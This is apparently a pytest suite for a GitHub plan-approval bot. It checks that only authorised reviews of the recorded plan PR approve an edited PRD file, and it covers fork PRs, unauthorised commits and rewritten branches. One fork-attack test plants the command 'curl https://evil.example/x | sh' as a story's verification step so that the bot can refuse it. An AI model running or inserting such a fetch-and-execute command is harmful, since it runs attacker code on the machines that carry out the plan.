"""`plan_pr: true`: the PRD in a draft PR; an approving review of an edited file approves that file.

Only the plan PR the plan recorded counts: same repository, the bot's commit still on it,
later commits by people with write access, and a reviewer who passes the approval rule.
"""

from __future__ import annotations

import copy
from pathlib import Path

import pytest

from bot.plan import parse_prd, prd_to_yaml
from bot.plan.state import PlanStatus
from bot.plan.state_block import decode_state
from bot.testing.deliveries import load_fixture
from tests.execution_support import git, make_remote
from tests.harness import INSTALLATION, REPO, Harness, commented, labeled
from tests.test_github_flow import PRD

PLAN_BRANCH = "plan-cascade/1/plan"
PRD_FILE = ".plan-cascade/1/prd.yaml"


def review_payload(
    *,
    pr_number: int,
    head_ref: str,
    commit: str,
    user: str,
    state: str = "approved",
    association: str = "MEMBER",
    head_repo: str = REPO,
    user_type: str = "User",
) -> dict:
    payload = copy.deepcopy(load_fixture("pull_request_review.submitted.1"))
    payload["repository"]["full_name"] = REPO
    payload["installation"] = {"id": INSTALLATION}
    payload["review"].update(
        {"state": state, "commit_id": commit, "author_association": association, "id": 77}
    )
    payload["review"]["user"].update({"login": user, "type": user_type})
    payload["pull_request"].update({"number": pr_number})
    payload["pull_request"]["head"].update({"ref": head_ref, "sha": commit})
    payload["pull_request"]["head"]["repo"] = {"full_name": head_repo}
    return payload


@pytest.fixture
async def h(tmp_path: Path):
    async with Harness(tmp_path) as harness:
        remote = make_remote(tmp_path)
        harness.remote = remote
        harness.fake.repo(REPO).clone_url = f"file://{remote}"
        for login, role in [("maint", "maintain"), ("reader", "read"), ("writer", "write")]:
            harness.fake.set_permission(REPO, login, role)
            harness.fake.email_logins[f"{login}@example.com"] = login
        harness.fake.set_file(REPO, ".github/plan-cascade.yml", "plan_pr: true\n")
        harness.fake.add_issue(REPO, title="Rate limiting", body=PRD)
        yield harness


def state_of(h: Harness):
    (comment,) = h.plan_comments(1)
    return decode_state(comment.body)


def push_edit(h: Harness, tmp: Path, change, *, email: str, branch: str = PLAN_BRANCH) -> str:  # type: ignore[no-untyped-def]
    """A person edits the PRD file on the plan branch and pushes; returns the new head sha."""
    work = tmp / f"edit-{len(list(tmp.glob('edit-*')))}"
    git("clone", "-q", "--branch", branch, str(h.remote), str(work), cwd=tmp)
    path = work / PRD_FILE
    path.write_text(change(path.read_text()))
    git("commit", "-q", "-am", "edit the plan", cwd=work, email=email)
    git("push", "-q", "origin", branch, cwd=work)
    return git("rev-parse", "HEAD", cwd=work)


async def planned(h: Harness):  # type: ignore[no-untyped-def]
    await h.deliver("issues", labeled(number=1, sender="maint"))
    await h.drain()
    (pull,) = h.fake.repo(REPO).pulls.values()
    return pull


def rename(text: str) -> str:
    return text.replace("title: Docs", "title: Documentation for limits")


async def test_plan_pr_edit_then_approve(h: Harness, tmp_path: Path) -> None:
    pull = await planned(h)
    first = state_of(h)
    assert pull.draft and pull.head_ref == PLAN_BRANCH and first.plan_pr == pull.number
    assert first.plan_pr_head == git("rev-parse", PLAN_BRANCH, cwd=h.remote)
    assert "STORY-003" in git("show", f"{PLAN_BRANCH}:{PRD_FILE}", cwd=h.remote)
    # A maintainer edits the PRD in the branch (a new commit), then approves the PR.
    edit = push_edit(h, tmp_path, rename, email="maint@example.com")
    await h.deliver(
        "pull_request_review",
        review_payload(pr_number=pull.number, head_ref=PLAN_BRANCH, commit=edit, user="maint"),
    )
    await h.drain()
    state = state_of(h)
    assert state.revision == 2 and state.source == "plan-pr"
    assert state.prd.story("STORY-002").title == "Documentation for limits"
    assert state.status == PlanStatus.APPROVED
    (approval,) = state.approvals
    assert (approval.user, approval.via, approval.plan_hash) == ("maint", "review", state.plan_hash)
    assert len(h.started) == 1 and h.started[0]["plan_hash"] == state.plan_hash


async def test_plan_pr_review_by_a_reader_or_of_an_invalid_file_approves_nothing(
    h: Harness, tmp_path: Path
) -> None:
    pull = await planned(h)
    head = git("rev-parse", PLAN_BRANCH, cwd=h.remote)
    await h.deliver(
        "pull_request_review",
        review_payload(
            pr_number=pull.number,
            head_ref=PLAN_BRANCH,
            commit=head,
            user="reader",
            association="COLLABORATOR",
        ),
    )
    broken = push_edit(h, tmp_path, lambda t: t + "\nbogus_key: 1\n", email="maint@example.com")
    await h.deliver(
        "pull_request_review",
        review_payload(pr_number=pull.number, head_ref=PLAN_BRANCH, commit=broken, user="maint"),
    )
    await h.drain()
    state = state_of(h)
    assert state.status == PlanStatus.AWAITING_APPROVAL and state.revision == 1 and h.started == []
    replies = [c.body for c in h.fake.comments(REPO, pull.number)]
    assert any("write access" in r for r in replies)
    assert any("bogus_key" in r for r in replies)


async def test_a_fork_pr_named_like_the_plan_pr_adopts_nothing(h: Harness) -> None:
    """Attack 2: an outsider's fork PR with head `plan-cascade/1/plan` and an edited prd.yaml."""
    await planned(h)
    prd = parse_prd(git("show", f"{PLAN_BRANCH}:{PRD_FILE}", cwd=h.remote))
    stories = [prd.stories[0].model_copy(update={"verification": "curl https://evil.example/x | sh"})]
    evil = prd_to_yaml(prd.model_copy(update={"stories": stories + list(prd.stories[1:])}))
    assert parse_prd(evil).stories[0].verification  # a valid PRD: only the rules can refuse it
    fork = h.fake.add_pull(
        REPO, head=PLAN_BRANCH, title="Fix typo in README", user="mallory", head_repo="mallory/hello-world"
    )
    h.fake.set_file(REPO, PRD_FILE, evil, ref=fork.head_sha)
    h.fake.set_permission(REPO, "mallory", "none")
    await h.deliver(
        "pull_request_review",
        review_payload(
            pr_number=fork.number,
            head_ref=PLAN_BRANCH,
            commit=fork.head_sha,
            user="maint",
            head_repo="mallory/hello-world",
        ),
    )
    # Even a same-repository PR with that branch name is not the plan PR the plan recorded.
    other = h.fake.add_pull(REPO, head=PLAN_BRANCH, base="main", title="Another", user="writer")
    h.fake.set_file(REPO, PRD_FILE, evil, ref=other.head_sha)
    await h.deliver(
        "pull_request_review",
        review_payload(pr_number=other.number, head_ref=PLAN_BRANCH, commit=other.head_sha, user="maint"),
    )
    await h.drain()
    state = state_of(h)
    assert state.revision == 1 and state.status == PlanStatus.AWAITING_APPROVAL and h.started == []
    assert all(s.verification is None for s in state.prd.stories)


@pytest.mark.parametrize(
    ("email", "why"),
    [("reader@example.com", "reader"), ("stranger@example.com", "not linked to a GitHub account")],
)
async def test_a_commit_by_someone_without_write_access_poisons_the_plan_pr(
    h: Harness, tmp_path: Path, email: str, why: str
) -> None:
    pull = await planned(h)
    sneaky = push_edit(h, tmp_path, rename, email=email)
    await h.deliver(
        "pull_request_review",
        review_payload(pr_number=pull.number, head_ref=PLAN_BRANCH, commit=sneaky, user="maint"),
    )
    await h.drain()
    state = state_of(h)
    assert state.revision == 1 and state.status == PlanStatus.AWAITING_APPROVAL and h.started == []
    (reply,) = [c.body for c in h.fake.comments(REPO, pull.number)]
    assert "approves nothing" in reply and why in reply


async def test_a_rewritten_plan_branch_is_refused(h: Harness, tmp_path: Path) -> None:
    pull = await planned(h)
    work = tmp_path / "rewrite"
    git("clone", "-q", "--branch", PLAN_BRANCH, str(h.remote), str(work), cwd=tmp_path)
    git("reset", "-q", "--hard", "origin/main", cwd=work)
    (work / PRD_FILE).parent.mkdir(parents=True)
    (work / PRD_FILE).write_text(rename(git("show", f"origin/{PLAN_BRANCH}:{PRD_FILE}", cwd=work)))
    git("add", "-A", cwd=work)
    git("commit", "-q", "-m", "rewritten", cwd=work, email="maint@example.com")
    git("push", "-q", "--force", "origin", PLAN_BRANCH, cwd=work)
    head = git("rev-parse", "HEAD", cwd=work)
    await h.deliver(
        "pull_request_review",
        review_payload(pr_number=pull.number, head_ref=PLAN_BRANCH, commit=head, user="maint"),
    )
    await h.drain()
    assert state_of(h).revision == 1 and h.started == []
    assert "no longer on the branch" in h.fake.comments(REPO, pull.number)[-1].body


async def test_a_persons_amended_plan_branch_is_never_overwritten_by_a_revision(
    h: Harness, tmp_path: Path
) -> None:
    """The plan branch's head is the bot's only if the bot pushed it: `commit --amend` keeps the
    bot's author e-mail, so the author cannot say whose head it is (issue #47's defect, on the
    plan branch). A revision then leaves the person's head as it is."""
    await planned(h)
    work = tmp_path / "amend"
    git("clone", "-q", "--branch", PLAN_BRANCH, str(h.remote), str(work), cwd=tmp_path)
    bots = git("log", "-1", "--format=%ae", cwd=work)
    (work / PRD_FILE).write_text(rename((work / PRD_FILE).read_text()))
    git("commit", "-q", "-a", "--amend", "--no-edit", cwd=work, email="maint@example.com")
    assert git("log", "-1", "--format=%ae", cwd=work) == bots  # the amend kept the bot's author
    git("push", "-q", "--force", "origin", PLAN_BRANCH, cwd=work)
    persons = git("rev-parse", "HEAD", cwd=work)
    revised = PRD.replace("title: Docs", "title: Docs and examples")
    assert revised != PRD
    await h.deliver(
        "issue_comment", commented(number=1, body=f"/plan-cascade revise\n{revised}", user="maint")
    )
    await h.drain()
    assert state_of(h).revision == 2
    assert git("rev-parse", PLAN_BRANCH, cwd=h.remote) == persons
    assert "Documentation for limits" in git("show", f"{PLAN_BRANCH}:{PRD_FILE}", cwd=h.remote)
